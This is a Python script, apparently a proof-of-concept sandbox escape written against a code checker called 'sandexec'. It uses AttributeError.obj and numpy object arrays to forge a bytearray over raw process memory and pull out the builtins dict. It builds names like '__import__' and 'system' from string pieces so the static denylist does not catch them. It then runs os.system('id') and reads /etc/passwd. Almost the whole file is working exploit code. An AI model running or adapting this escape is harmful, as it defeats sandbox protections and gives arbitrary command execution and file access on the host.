# source: CPython 3.10+ AttributeError.obj/name; sandexec README, "The static check", denylist-on-self allowance
# family: the script's own attribute names: self.obj assigned makes AttributeError.obj accepted; the error of Buf.missing holds the class object; klass.attach(arr, raw) runs with an object array as self
# goal: object array pointed at script bytes via self.data -> forged bytearray over all memory -> builtins dict -> __import__('os').system('id'), read /etc/passwd
import numpy as np


class Buf:
    def __init__(self):
        self.obj = None

    def attach(self, raw):
        self.data = raw
        return self


def point(raw):
    try:
        Buf.nothing_here
    except AttributeError as e:
        klass = e.obj
    return klass.attach(np.empty(1, dtype=object), raw)


M = (1 << 64) - 1


def q(n):
    return (n & M).to_bytes(8, "little")


def addr_of(o):
    box = np.empty(1, dtype=object)
    box[0] = o
    return int.from_bytes(box.tobytes(), "little")


def helper():
    return 1


def as_object(addr, keep):
    raw = q(addr)
    keep.append(raw)
    a = point(raw)
    keep.append(a)
    return a[0]


keep = []
fake = q(1 << 40) + q(addr_of(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
keep.append(fake)
mem = as_object(addr_of(fake) + 32, keep)
print("forged object:", type(mem), len(mem))
fa = addr_of(helper)
bd = as_object(int.from_bytes(mem[fa + 24:fa + 32], "little"), keep)
u = chr(95) * 2
imp = bd[u + "imp" + "ort" + u]
osm = imp("o" + "s")
print("module:", osm)
bd["get" + "attr"](osm, "sys" + "tem")("id")
print(bd["op" + "en"](chr(47) + "etc" + chr(47) + "passwd").read()[:120])
